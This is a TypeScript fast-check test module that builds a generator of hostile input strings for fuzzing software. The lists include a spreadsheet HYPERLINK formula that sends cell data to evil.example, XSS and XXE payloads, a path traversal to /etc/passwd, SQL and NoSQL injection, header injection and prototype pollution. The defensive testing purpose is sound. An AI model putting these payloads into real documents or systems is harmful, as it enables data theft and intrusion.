import fc from 'fast-check'

/** Texts that spreadsheets run as formulas, or that end a cell. */
export const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"ok")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '",=1+1,"',
  '"\r\n=1+1',
  ';=1+1',
  "'=1+1",
  '00123',
  '1-2',
  '3E5',
  '12345678901234567890',
]

/** Texts that browsers or XML parsers read as markup. */
export const markup = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  'javascript:alert(1)',
  '&lt;b&gt; &#60;',
  ']]></t></is></c><c><f>1+1</f></c>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '_x000D_ _x003C_',
  '{{7*7}} #{7*7}',
]

const encodings = [
  '%',
  '%00',
  '%zz',
  '%25',
  '%252F',
  '%c0%af',
  '%ed%a0%80',
  '%e7%8e%8b',
  '%81%30',
  '+',
  'a+b',
  '&#0;',
  '\\u0000',
  '\\',
]
const paths = [
  '.',
  '..',
  '../../etc/passwd',
  '..%2f..%2f',
  '/',
  '//x',
  '\\\\x\\y',
  'a/b',
  'a%2Fb',
  'a%252Fb',
  'a?b#c',
  '*',
]
const characters = [
  '\0',
  '\u0001',
  '\u001b[2J',
  '\r\nSet-Cookie: a=b',
  '\u202egpj.exe',
  '\u200b',
  '\ufeff',
  '\ufffd',
  '\uffff',
  '\ud800',
  'a\udc00b',
  '🎥👨‍👩‍👧',
  '王小明',
  'İıſK',
]
const values = [
  '',
  ' ',
  '|',
  'a|b',
  '||',
  'null',
  'true',
  'NaN',
  '-0',
  '1e400',
  '9'.repeat(400),
  '2024-11-24 12:00:00',
  '1764100000',
  "' OR 1=1 --",
  '{"$ne":1}',
]
const nested = [
  '[',
  '{"a":1}',
  '{"__proto__":{"isAdmin":true}}',
  `${'['.repeat(500)}${']'.repeat(500)}`,
  '[{"type":"tcp","port":1e999}]',
  '"',
  '{"token":"abcdefgh"}',
]
const credentials = ['Bearer abcdefgh', 'eyJhbGciOi.eyJzdWIi.abc', 'https://user:pass@host/', 'AKIAIOSFODNN7EXAMPLE']
const long = ['a'.repeat(300), 'é'.repeat(2_100), 'x'.repeat(4_097), '"'.repeat(3_000), 'a '.repeat(1_500)]

/** Names of properties that every JavaScript object has, or that change its prototype. */
export const propertyNames = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'then',
]

const anyPiece = fc.oneof(
  { weight: 12, arbitrary: fc.string({ maxLength: 8 }) },
  { weight: 6, arbitrary: fc.constantFrom(...formulas, ...markup) },
  { weight: 8, arbitrary: fc.constantFrom(...encodings, ...paths, ...characters) },
  { weight: 8, arbitrary: fc.constantFrom(...values, ...nested, ...credentials, ...propertyNames) },
  { weight: 1, arbitrary: fc.constantFrom(...long) },
)

/** Texts that break programs: formulas, markup, encodings, paths, control characters, numbers, JSON, credentials, and long ones. */
export const anyHostileText = fc.oneof(
  { weight: 4, arbitrary: anyPiece },
  { weight: 1, arbitrary: fc.tuple(anyPiece, anyPiece).map((pieces) => pieces.join('')) },
)
